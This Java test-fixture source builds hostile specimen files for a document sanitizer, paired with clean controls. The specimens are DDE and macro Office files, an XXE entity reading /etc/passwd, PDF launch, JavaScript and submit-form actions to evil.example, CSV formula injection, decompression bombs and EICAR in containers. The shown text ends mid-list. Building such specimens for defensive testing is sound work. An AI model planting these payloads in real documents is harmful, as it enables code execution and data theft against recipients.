package jp.kakehashi.sanitizer.specimens;

import static jp.kakehashi.sanitizer.Verdict.BLOCKED;
import static jp.kakehashi.sanitizer.Verdict.CLEAN;
import static jp.kakehashi.sanitizer.Verdict.QUARANTINED;
import static jp.kakehashi.sanitizer.Verdict.SANITIZED;

import java.awt.Color;
import java.awt.Graphics2D;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriteParam;
import javax.imageio.ImageWriter;
import javax.imageio.stream.ImageOutputStream;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentCatalog;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionImportData;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionRemoteGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xslf.usermodel.XMLSlideShow;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/**
 * The hostile-specimen suite (issue 3, ATTACKS.md): every file is generated here, never
 * downloaded, and carries one attack with the verdict the sanitizer must reach. Controls (clean
 * files of each family) sit beside the attacks so that a sanitizer refusing everything fails too.
 */
public final class HostileSpecimens {
    static final String R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    static final String VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
    static final String VBA_TYPE = "application/vnd.ms-office.vbaProject";
    static final String OD = "application/vnd.openxmlformats-officedocument.";
    static final String EMBEDDED_XLSX = "word/embeddings/Microsoft_Excel_Worksheet.xlsx";
    static final Charset CP932 = Charset.forName("windows-31j");

    private HostileSpecimens() {}

    /** Every specimen the sanitizer alone decides (no scanner). */
    public static List<Specimen> all() {
        List<Specimen> all = new ArrayList<>();
        all.addAll(office());
        all.addAll(OdfSpecimens.all());
        all.addAll(LegacySpecimens.all());
        all.addAll(EmailSpecimens.all());
        all.addAll(pdf());
        all.addAll(text());
        all.addAll(images());
        all.addAll(archives());
        all.addAll(markup());
        all.addAll(otherTypes());
        return List.copyOf(all);
    }

    /** EICAR (built from pieces at run time) in each container: the scanner must quarantine each. */
    public static List<Specimen> malware() {
        byte[] eicar = eicar();
        Map<String, byte[]> docx = Zips.read(docx("見積書"));
        docx.put("word/media/eicar.com", eicar);
        return List.of(
                new Specimen("AV-01", "eicar.com", eicar, QUARANTINED, "MALWARE"),
                new Specimen("AV-02", "資料.zip", Zips.of("eicar.com", eicar), QUARANTINED, "MALWARE"),
                new Specimen(
                        "AV-03",
                        "nested.zip",
                        Zips.of("inner.zip", Zips.of("eicar.txt", eicar)),
                        QUARANTINED,
                        "MALWARE"),
                new Specimen(
                        "AV-07",
                        "three-deep.zip",
                        Zips.of("second.zip", Zips.of("third.zip", Zips.of("eicar.txt", eicar))),
                        QUARANTINED,
                        "MALWARE"),
                new Specimen("AV-04", "見積書.docx", Zips.write(docx), QUARANTINED, "MALWARE"),
                new Specimen("AV-05", "添付.pdf", pdf(doc -> embed(doc, "eicar.com", eicar)), QUARANTINED, "MALWARE"),
                new Specimen(
                        "AV-06",
                        "添付.eml",
                        EmailSpecimens.mail(
                                EmailSpecimens.text("添付します"), EmailSpecimens.attachment("eicar.com", eicar)),
                        QUARANTINED,
                        "MALWARE"));
    }

    public static byte[] eicar() {
        String head = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$";
        String tail = "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
        return (head + tail).getBytes(StandardCharsets.US_ASCII);
    }

    // ---------------------------------------------------------------- Office Open XML

    static List<Specimen> office() {
        List<Specimen> s = new ArrayList<>();
        s.add(new Specimen("OFF-00", "見積書.docx", docx("見積書の本文"), CLEAN, ""));
        s.add(new Specimen("OFF-01a", "見積書.docm", macro(docx("見積書"), "word", "document"), SANITIZED, "macro"));
        s.add(new Specimen("OFF-01b", "見積書.docx", macro(docx("見積書"), "word", "document"), SANITIZED, "macro"));
        s.add(new Specimen("OFF-01c", "予算.xlsm", macro(xlsx("予算"), "xl", "workbook"), SANITIZED, "macro"));
        s.add(new Specimen("OFF-01d", "説明資料.pptm", macro(pptx(), "ppt", "presentation"), SANITIZED, "macro"));
        s.add(new Specimen("OFF-01e", "様式.dotm", template(docx("様式")), SANITIZED, "macro"));
        s.add(new Specimen("OFF-02", "集計.xlsx", excel4MacroSheet(), SANITIZED, "macro"));
        s.add(external("OFF-03", "attachedTemplate", "http://evil.example/template.dotm"));
        s.add(external("OFF-04a", "frame", "http://evil.example/frame.html"));
        s.add(external("OFF-04b", "subDocument", "\\\\evil.example\\share\\sub.docx"));
        s.add(external("OFF-05", "image", "http://evil.example/track.png"));
        s.add(new Specimen("OFF-06", "連携.xlsx", externalWorkbookLink(), SANITIZED, "external-reference"));
        s.add(new Specimen("OFF-07", "接続.xlsx", dataConnection(), SANITIZED, "data-connection"));
        s.add(field(
                "OFF-08a",
                "<w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \">"
                        + "<w:r><w:t>x</w:t></w:r></w:fldSimple>"));
        s.add(field(
                "OFF-08b",
                "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> DDE"
                        + " \"cmd\" \"/c calc\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
                        + "<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>"));
        s.add(field(
                "OFF-08c",
                "<w:fldSimple w:instr=\" INCLUDETEXT &quot;\\\\\\\\evil\\\\share\\\\a.docx&quot; \">"
                        + "<w:r><w:t>x</w:t></w:r></w:fldSimple>"));
        s.add(field(
                "OFF-08d",
                "<w:fldSimple w:instr=\" INCLUDEPICTURE &quot;http://evil.example/p.png&quot; \\d \">"
                        + "<w:r><w:t>x</w:t></w:r></w:fldSimple>"));
        s.add(new Specimen("OFF-08e", "請求.xlsx", ddeFormula(), SANITIZED, "dde"));
        s.add(new Specimen(
                "OFF-09",
                "報告.docx",
                part(docx("報告"), "word/embeddings/oleObject1.bin", OD + "oleObject", R + "oleObject", ole2Header()),
                SANITIZED,
                "ole-object"));
        s.add(new Specimen(
                "OFF-10",
                "申請.docx",
                part(
                        docx("申請"),
                        "word/activeX/activeX1.xml",
                        "application/vnd.ms-office.activeX+xml",
                        R + "control",
                        "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}\"/>"
                                .getBytes(StandardCharsets.UTF_8)),
                SANITIZED,
                "activex"));
        s.add(new Specimen("OFF-15", "ribbon.docx", customUi(), SANITIZED, "custom-ui"));
        s.add(new Specimen(
                "OFF-17",
                "報告.docx",
                part(
                        docx("報告"),
                        EMBEDDED_XLSX,
                        OD + "spreadsheetml.sheet",
                        R + "package",
                        macro(xlsx("予算"), "xl", "workbook")),
                SANITIZED,
                "ole-object"));
        s.add(new Specimen(
                "OFF-18",
                "報告.docx",
                part(docx("報告"), EMBEDDED_XLSX, OD + "spreadsheetml.sheet", R + "package", xlsx("予算")),
                CLEAN,
                ""));
        s.add(new Specimen("XML-01", "doctype.docx", doctype(false), BLOCKED, "XML_DOCTYPE"));
        s.add(new Specimen("XML-02", "xxe.docx", doctype(true), BLOCKED, "XML_DOCTYPE"));
        s.add(new Specimen("OFF-13", "暗号化.docx", encryptedOoxml(), QUARANTINED, "ENCRYPTED_CONTENT"));
        s.add(new Specimen("OFF-16", "link.pptx", hyperlinkPptx(), CLEAN, ""));
        return s;
    }

    static byte[] docx(String text) {
        try (XWPFDocument doc = new XWPFDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            doc.createParagraph().createRun().setText(text);
            doc.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] xlsx(String text) {
        try (XSSFWorkbook wb = new XSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            wb.createSheet("予算").createRow(0).createCell(0).setCellValue(text);
            wb.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] pptx() {
        try (XMLSlideShow show = new XMLSlideShow();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            show.createSlide();
            show.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Makes a package macro-enabled: a VBA project part, its relationship, the macro main type. */
    static byte[] macro(byte[] pkg, String folder, String main) {
        Map<String, byte[]> p = Zips.read(pkg);
        p.put(folder + "/vbaProject.bin", ole2Header());
        Zips.addOverride(p, folder + "/vbaProject.bin", VBA_TYPE);
        Zips.addRelationship(p, folder + "/_rels/" + main + ".xml.rels", "rIdVba", VBA_REL, "vbaProject.bin", false);
        String macroType = switch (folder) {
            case "word" -> "application/vnd.ms-word.document.macroEnabled.main+xml";
            case "xl" -> "application/vnd.ms-excel.sheet.macroEnabled.main+xml";
            default -> "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml";
        };
        Zips.edit(
                p,
                "[Content_Types].xml",
                t -> t.replaceFirst(
                        "(PartName=\"/" + folder + "/" + main + "\\.xml\" ContentType=\")[^\"]+\"",
                        "$1" + macroType + "\""));
        return Zips.write(p);
    }

    static byte[] template(byte[] docx) {
        Map<String, byte[]> p = Zips.read(macro(docx, "word", "document"));
        Zips.edit(
                p,
                "[Content_Types].xml",
                t -> t.replace(
                        "application/vnd.ms-word.document.macroEnabled.main+xml",
                        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml"));
        return Zips.write(p);
    }

    static byte[] excel4MacroSheet() {
        return part(
                xlsx("集計"),
                "xl/macrosheets/sheet1.xml",
                "application/vnd.ms-excel.macrosheet+xml",
                "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
                ("<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\">"
                                + "<sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"calc.exe\")</f></c></row></sheetData>"
                                + "</xm:macrosheet>")
                        .getBytes(StandardCharsets.UTF_8));
    }

    /** Adds a part with its content type and a relationship from the main part. */
    static byte[] part(byte[] pkg, String name, String contentType, String relType, byte[] content) {
        Map<String, byte[]> p = Zips.read(pkg);
        p.put(name, content);
        Zips.addOverride(p, name, contentType);
        String folder = name.substring(0, name.indexOf('/'));
        String main = switch (folder) {
            case "word" -> "document";
            case "xl" -> "workbook";
            default -> "presentation";
        };
        Zips.addRelationship(
                p,
                folder + "/_rels/" + main + ".xml.rels",
                "rIdX" + Math.abs(name.hashCode()),
                relType,
                name.substring(folder.length() + 1),
                false);
        return Zips.write(p);
    }

    static Specimen external(String id, String relType, String target) {
        Map<String, byte[]> p = Zips.read(docx("外部参照"));
        Zips.addRelationship(p, "word/_rels/document.xml.rels", "rIdExt", R + relType, target, true);
        return new Specimen(id, relType + ".docx", Zips.write(p), SANITIZED, "external-reference");
    }

    static byte[] externalWorkbookLink() {
        Map<String, byte[]> p = Zips.read(xlsx("連携"));
        p.put(
                "xl/externalLinks/externalLink1.xml",
                ("<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\""
                                + " xmlns:r=\"" + R.substring(0, R.length() - 1) + "\">"
                                + "<externalBook r:id=\"rId1\"/></externalLink>")
                        .getBytes(StandardCharsets.UTF_8));
        Zips.addOverride(p, "xl/externalLinks/externalLink1.xml", OD + "spreadsheetml.externalLink+xml");
        Zips.addRelationship(
                p,
                "xl/_rels/workbook.xml.rels",
                "rIdLink",
                R + "externalLink",
                "externalLinks/externalLink1.xml",
                false);
        Zips.addRelationship(
                p,
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                "rId1",
                R + "externalLinkPath",
                "file:///\\\\evil.example\\share\\book.xlsx",
                true);
        return Zips.write(p);
    }

    static byte[] dataConnection() {
        return part(
                xlsx("接続"),
                "xl/connections.xml",
                OD + "spreadsheetml.connections+xml",
                R + "connections",
                ("<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
                                + "<connection id=\"1\" name=\"q\" type=\"4\" refreshOnLoad=\"1\">"
                                + "<webPr url=\"http://evil.example/data\"/></connection></connections>")
                        .getBytes(StandardCharsets.UTF_8));
    }

    static Specimen field(String id, String fieldXml) {
        Map<String, byte[]> p = Zips.read(docx("フィールド"));
        Zips.edit(
                p,
                "word/document.xml",
                d -> d.replace("<w:body>", "<w:body><w:p><w:r><w:t>前</w:t></w:r>" + fieldXml + "</w:p>"));
        return new Specimen(id, "field-" + id + ".docx", Zips.write(p), SANITIZED, "dde");
    }

    static byte[] ddeFormula() {
        try (XSSFWorkbook wb = new XSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            var row = wb.createSheet("請求").createRow(0);
            row.createCell(0).setCellValue("金額");
            row.createCell(1).setCellValue(0);
            wb.write(out);
            Map<String, byte[]> p = Zips.read(out.toByteArray());
            Zips.edit(
                    p,
                    "xl/worksheets/sheet1.xml",
                    x -> x.replaceFirst("<c r=\"B1\"([^>]*)>", "<c r=\"B1\"$1><f>cmd|' /C calc'!A0</f>"));
            return Zips.write(p);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] customUi() {
        Map<String, byte[]> p = Zips.read(docx("リボン"));
        p.put(
                "customUI/customUI14.xml",
                ("<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"Ribbon_Load\"/>")
                        .getBytes(StandardCharsets.UTF_8));
        Zips.addRelationship(
                p,
                "_rels/.rels",
                "rIdUi",
                "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
                "customUI/customUI14.xml",
                false);
        return Zips.write(p);
    }

    static byte[] doctype(boolean entity) {
        Map<String, byte[]> p = Zips.read(docx("DOCTYPE"));
        String decl = entity
                ? "<!DOCTYPE w:document [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>"
                : "<!DOCTYPE w:document [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">]>";
        Zips.edit(p, "word/document.xml", d -> d.replaceFirst("\\?>", "?>" + decl));
        return Zips.write(p);
    }

    static byte[] encryptedOoxml() {
        try (POIFSFileSystem fs = new POIFSFileSystem();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            EncryptionInfo info = new EncryptionInfo(EncryptionMode.agile);
            Encryptor enc = info.getEncryptor();
            enc.confirmPassword("himitsu");
            try (var os = enc.getDataStream(fs)) {
                os.write(docx("暗号化された見積書"));
            }
            fs.writeFilesystem(out);
            return out.toByteArray();
        } catch (IOException | java.security.GeneralSecurityException e) {
            throw new IllegalStateException(e);
        }
    }

    static byte[] hyperlinkPptx() {
        Map<String, byte[]> p = Zips.read(pptx());
        Zips.addRelationship(
                p,
                "ppt/slides/_rels/slide1.xml.rels",
                "rIdLink",
                R + "hyperlink",
                "https://www.city.example.lg.jp/",
                true);
        return Zips.write(p);
    }

    static byte[] ole2Header() {
        byte[] b = new byte[1024];
        byte[] magic = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        System.arraycopy(magic, 0, b, 0, magic.length);
        return b;
    }

    // ---------------------------------------------------------------- PDF

    static List<Specimen> pdf() {
        List<Specimen> s = new ArrayList<>();
        s.add(new Specimen("PDF-00", "報告書.pdf", pdf(doc -> {}), CLEAN, ""));
        s.add(pdfSpecimen(
                "PDF-01", "javascript", doc -> doc.getDocumentCatalog().setOpenAction(js())));
        s.add(pdfSpecimen("PDF-02", "javascript", doc -> {
            PDJavascriptNameTreeNode tree = new PDJavascriptNameTreeNode();
            tree.setNames(Map.of("init", js()));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
            names.setJavascript(tree);
            doc.getDocumentCatalog().setNames(names);
        }));
        s.add(pdfSpecimen("PDF-03", "action", doc -> doc.getPage(0).getActions().setO(js())));
        s.add(pdfSpecimen("PDF-04", "action", doc -> {
            COSDictionary aa = new COSDictionary();
            aa.setItem(COSName.getPDFName("WC"), js());
            doc.getDocumentCatalog().getCOSObject().setItem(COSName.AA, aa);
        }));
        s.add(pdfSpecimen("PDF-05", "javascript", doc -> link(doc, js())));
        s.add(pdfSpecimen("PDF-06", "action", doc -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.setFile(new PDSimpleFileSpecification(new COSString("C:\\Windows\\System32\\cmd.exe")));
            doc.getDocumentCatalog().setOpenAction(launch);
        }));
        s.add(pdfSpecimen("PDF-07", "action", doc -> {
            PDActionSubmitForm submit = new PDActionSubmitForm();
            submit.getCOSObject().setString(COSName.F, "http://evil.example/collect");
            link(doc, submit);
        }));
        s.add(pdfSpecimen("PDF-08", "action", doc -> {
            PDActionImportData importData = new PDActionImportData();
            importData.setFile(new PDSimpleFileSpecification(new COSString("\\\\evil.example\\share\\data.fdf")));
            link(doc, importData);
        }));
        s.add(pdfSpecimen("PDF-09", "action", doc -> {
            PDActionRemoteGoTo remote = new PDActionRemoteGoTo();
            remote.setFile(new PDSimpleFileSpecification(new COSString("\\\\evil.example\\share\\x.pdf")));
            doc.getDocumentCatalog().setOpenAction(remote);
        }));
        s.add(pdfSpecimen("PDF-10", "embedded-file", doc -> embed(doc, "payload.exe", new byte[] {'M', 'Z', 0, 0})));
        s.add(pdfSpecimen("PDF-11", "embedded-file", doc -> {
            PDAnnotationFileAttachment attachment = new PDAnnotationFileAttachment();
            attachment.setRectangle(new PDRectangle(10, 10, 20, 20));
            attachment.setFile(fileSpec(doc, "invoice.js", "app.alert(1)".getBytes(StandardCharsets.US_ASCII)));
            annotations(doc).add(attachment.getCOSObject());
        }));
        s.add(pdfSpecimen("PDF-12", "xfa", doc -> {
            PDAcroForm form = new PDAcroForm(doc);
            form.getCOSObject()
                    .setItem(COSName.XFA, new COSString("<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>"));
            doc.getDocumentCatalog().setAcroForm(form);
        }));
        for (String subtype : List.of("RichMedia", "Sound", "Movie", "3D", "Screen")) {
            s.add(pdfSpecimen("PDF-13-" + subtype, "", doc -> {
                COSDictionary annot = new COSDictionary();
                annot.setItem(COSName.TYPE, COSName.ANNOT);
                annot.setItem(COSName.SUBTYPE, COSName.getPDFName(subtype));
                annot.setItem(COSName.RECT, new PDRectangle(10, 10, 20, 20).getCOSArray());
                annotations(doc).add(annot);
            }));
        }
        s.add(pdfSpecimen("PDF-14", "", doc -> link(doc, uri("javascript:app.alert(document.cookie)"))));
        s.add(new Specimen(
                "PDF-15", "リンク.pdf", pdf(doc -> link(doc, uri("https://www.city.example.lg.jp/"))), CLEAN, ""));
        s.add(new Specimen("PDF-16", "incremental.pdf", incrementalJavaScript(), SANITIZED, "javascript"));
        s.add(new Specimen("PDF-17", "owner.pdf", encryptedPdf("", "owner-secret"), SANITIZED, "encryption"));
        s.add(new Specimen(
                "PDF-18", "user.pdf", encryptedPdf("user-secret", "owner-secret"), QUARANTINED, "ENCRYPTED_CONTENT"));
        s.add(new Specimen(
                "PDF-19",
                "polyglot.pdf",
                concat(pdf(doc -> {}), Zips.of("run.js", "WScript.Echo(1)".getBytes(StandardCharsets.US_ASCII))),
                SANITIZED,
                "trailing-data"));
        s.add(new Specimen("PDF-20", "font-bomb.pdf", hugeFontPdf(80), BLOCKED, "RESOURCE_LIMIT"));
        return s;
    }

    /**
     * A one-page PDF whose Type0 CID font has a font program of {@code decodedMib} MB of zeros,
     * deflated to a thousandth of that, and a 65,536-entry width array (PDF-20, B-CDR-WORST).
     */
    public static byte[] hugeFontPdf(int decodedMib) {
        try (PDDocument doc = new PDDocument();
                ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            COSStream program = doc.getDocument().createCOSStream();
            try (OutputStream o = program.createOutputStream(COSName.FLATE_DECODE)) {
                byte[] zeros = new byte[1 << 20];
                for (int i = 0; i < decodedMib; i++) {
                    o.write(zeros);
                }
            }
            COSDictionary descriptor = new COSDictionary();
            descriptor.setItem(COSName.TYPE, COSName.FONT_DESC);
            descriptor.setName(COSName.FONT_NAME, "Huge");
            descriptor.setInt(COSName.FLAGS, 4);
            descriptor.setItem(COSName.FONT_BBOX, new PDRectangle(0, 0, 1000, 1000).getCOSArray());
            descriptor.setInt(COSName.ITALIC_ANGLE, 0);
            descriptor.setInt(COSName.ASCENT, 1000);
            descriptor.setInt(COSName.DESCENT, 0);
            descriptor.setInt(COSName.CAP_HEIGHT, 1000);
            descriptor.setInt(COSName.STEM_V, 80);
            descriptor.setItem(COSName.FONT_FILE2, program);
            COSDictionary systemInfo = new COSDictionary();
            systemInfo.setString(COSName.REGISTRY, "Adobe");
            systemInfo.setString(COSName.ORDERING, "Identity");
            systemInfo.setInt(COSName.SUPPLEMENT, 0);
            COSArray widths = new COSArray();
            for (int i = 0; i < 65_536; i++) {
                widths.add(COSInteger.get(500 + i % 500));
            }
            COSArray w = new COSArray();
            w.add(COSInteger.ZERO);
            w.add(widths);
            COSDictionary cid = new COSDictionary();
            cid.setItem(COSName.TYPE, COSName.FONT);
            cid.setItem(COSName.SUBTYPE, COSName.CID_FONT_TYPE2);
            cid.setName(COSName.BASE_FONT, "Huge");
            cid.setItem(COSName.CIDSYSTEMINFO, systemInfo);
            cid.setItem(COSName.FONT_DESC, descriptor);
            cid.setItem(COSName.W, w);
            cid.setItem(COSName.CID_TO_GID_MAP, COSName.IDENTITY);
            COSArray descendants = new COSArray();
            descendants.add(cid);
            COSDictionary type0 = new COSDictionary();
            type0.setItem(COSName.TYPE, COSName.FONT);
            type0.setItem(COSName.SUBTYPE, COSName.TYPE0);
            type0.setName(COSName.BASE_FONT, "Huge");
            type0.setName(COSName.ENCODING, "Identity-H");
            type0.setItem(COSName.DESCENDANT_FONTS, descendants);
            COSDictionary fonts = new COSDictionary();
            fonts.setItem(COSName.getPDFName("F1"), type0);
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            PDResources resources = new PDResources();
            resources.getCOSObject().setItem(COSName.FONT, fonts);
            page.setResources(resources);
            COSStream content = doc.getDocument().createCOSStream();
            try (OutputStream o = content.createOutputStream()) {
                o.write("BT /F1 24 Tf 72 720 Td <0001000200030004> Tj ET".getBytes(StandardCharsets.US_ASCII));
            }
            page.getCOSObject().setItem(COSName.CONTENTS, content);
            doc.save(bytes);
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static Specimen pdfSpecimen(String id, String evidence, Consumer<PDDocument> attack) {
        return new Specimen(id, id.toLowerCase(java.util.Locale.ROOT) + ".pdf", pdf(attack), SANITIZED, evidence);
    }

    static byte[] pdf(Consumer<PDDocument> attack) {
        try (PDDocument doc = new PDDocument();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage(PDRectangle.A4);
            doc.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(doc, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.newLineAtOffset(72, 720);
                content.showText("Quarterly report");
                content.endText();
            }
            attack.accept(doc);
            doc.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static PDActionJavaScript js() {
        return new PDActionJavaScript("app.alert('pwned');");
    }

    static PDActionURI uri(String target) {
        PDActionURI uri = new PDActionURI();
        uri.setURI(target);
        return uri;
    }

    static void link(PDDocument doc, PDAction action) {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(72, 700, 200, 20));
        link.setAction(action);
        annotations(doc).add(link.getCOSObject());
    }

    static COSArray annotations(PDDocument doc) {
        COSDictionary page = doc.getPage(0).getCOSObject();
        COSArray annots = page.getCOSArray(COSName.ANNOTS);
        if (annots == null) {
            annots = new COSArray();
            page.setItem(COSName.ANNOTS, annots);
        }
        return annots;
    }

    static PDComplexFileSpecification fileSpec(PDDocument doc, String name, byte[] content) {
        try {
            PDEmbeddedFile file = new PDEmbeddedFile(doc, new ByteArrayInputStream(content));
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile(name);
            spec.setEmbeddedFile(file);
            return spec;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static void embed(PDDocument doc, String name, byte[] content) {
        PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
        tree.setNames(Map.of(name, fileSpec(doc, name, content)));
        PDDocumentNameDictionary names = new PDDocumentNameDictionary(doc.getDocumentCatalog());
        names.setEmbeddedFiles(tree);
        doc.getDocumentCatalog().setNames(names);
    }

    static byte[] incrementalJavaScript() {
        try (PDDocument doc = Loader.loadPDF(pdf(d -> {}));
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDDocumentCatalog catalog = doc.getDocumentCatalog();
            catalog.setOpenAction(js());
            catalog.getCOSObject().setNeedToBeUpdated(true);
            doc.saveIncremental(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] encryptedPdf(String user, String owner) {
        try (PDDocument doc = Loader.loadPDF(pdf(d -> {}));
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            AccessPermission permissions = new AccessPermission();
            permissions.setCanPrint(false);
            StandardProtectionPolicy policy = new StandardProtectionPolicy(owner, user, permissions);
            policy.setEncryptionKeyLength(128);
            doc.protect(policy);
            doc.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // ---------------------------------------------------------------- text and CSV

    static List<Specimen> text() {
        return List.of(
                new Specimen("TXT-00", "議事録.txt", "本日の議題\n予算について\n".getBytes(StandardCharsets.UTF_8), CLEAN, ""),
                new Specimen(
                        "OFF-11a",
                        "名簿.csv",
                        "氏名,金額\n山田,=1+1\n佐藤,@SUM(A1:A2)\n".getBytes(StandardCharsets.UTF_8),
                        SANITIZED,
                        "formula"),
                new Specimen(
                        "OFF-11b",
                        "請求一覧.csv",
                        "件名,リンク\n請求書,=HYPERLINK(\"http://evil.example\",\"請求書\")\n".getBytes(CP932),
                        SANITIZED,
                        "formula"),
                new Specimen(
                        "OFF-11c",
                        "dde.csv",
                        "a,b\n1,=cmd|' /C calc'!A0\n".getBytes(StandardCharsets.UTF_8),
                        SANITIZED,
                        "formula"),
                new Specimen(
                        "OFF-11d",
                        "集計.tsv",
                        "項目\t値\n合計\t+SUM(1,2)\n".getBytes(StandardCharsets.UTF_8),
                        SANITIZED,
                        "formula"),
                new Specimen(
                        "OFF-11e",
                        "bom.csv",
                        concat(
                                new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF},
                                "x,y\n-2+3,ok\n".getBytes(StandardCharsets.UTF_8)),
                        SANITIZED,
                        "formula"),
                new Specimen("OFF-11f", "数値.csv", "金額,差額\n1000,-200\n".getBytes(StandardCharsets.UTF_8), CLEAN, ""));
    }

    // ---------------------------------------------------------------- images

    static List<Specimen> images() {
        byte[] png = image("png", 64, 48);
        return List.of(
                new Specimen("IMG-00", "写真.png", png, CLEAN, ""),
                new Specimen("IMG-01", "bomb.png", pngHeaderOnly(100_000, 100_000), BLOCKED, "IMAGE_TOO_LARGE"),
